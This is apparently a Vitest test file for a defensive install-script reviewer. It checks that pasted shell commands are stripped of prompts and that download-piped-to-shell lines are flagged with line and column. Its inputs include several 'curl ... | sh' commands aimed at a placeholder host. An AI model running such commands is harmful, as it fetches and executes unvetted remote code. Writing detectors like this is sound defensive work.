import { describe, expect, it } from 'vitest'
import { withoutPrompts } from '../../../shared/install-review/prompts.ts'
import { reviewScript } from '../../../shared/install-review/review.ts'

const classes = (text: string) => reviewScript(text).findings.map((finding) => finding.class)

describe('SR9 a command as it was copied from a page', () => {
  it('is read without its prompt, every character in its place', () => {
    expect(withoutPrompts('$ curl x | sh')).toBe('  curl x | sh')
    expect(withoutPrompts('echo a\n$b c')).toBe('echo a\n$b c')
    expect(withoutPrompts('“a” ‘b’')).toBe('"a" \'b\'')
  })

  it.each([
    '$ curl -sSf https://x.example/install.sh | sh',
    '# curl -sSf https://x.example/install.sh | sh',
    '> curl -sSf https://x.example/install.sh | sh',
    'user@host:~$ curl -sSf https://x.example/install.sh | sh',
    '[root@rig ~]# curl -sSf https://x.example/install.sh | sh',
    '(base) $ curl -sSf https://x.example/install.sh | sh',
    '“curl” -sSf “https://x.example/install.sh” | sh',
    '$ sudo apt-get install -y jq\n$ curl -sSf https://x.example/install.sh | sh',
  ])('alarms at %j', (text) => {
    expect(classes(text)).toContain('download-to-shell')
  })

  it('says so, at the line and column of the text that was pasted', () => {
    const [finding] = reviewScript('\n$ curl https://x.example | sh').findings
    expect(finding).toMatchObject({ line: 2, column: 28 })
    expect(finding?.meaning).toContain('without the prompt')
  })

  it('takes a comment of a script for a comment', () => {
    expect(classes('#!/bin/sh\n# curl https://x.example | sh\necho hello\n')).toEqual([])
  })

  it('raises nothing twice', () => {
    const text = 'curl https://x.example | sh # “as root”'
    expect(classes(text).filter((each) => each === 'download-to-shell')).toHaveLength(1)
  })
})
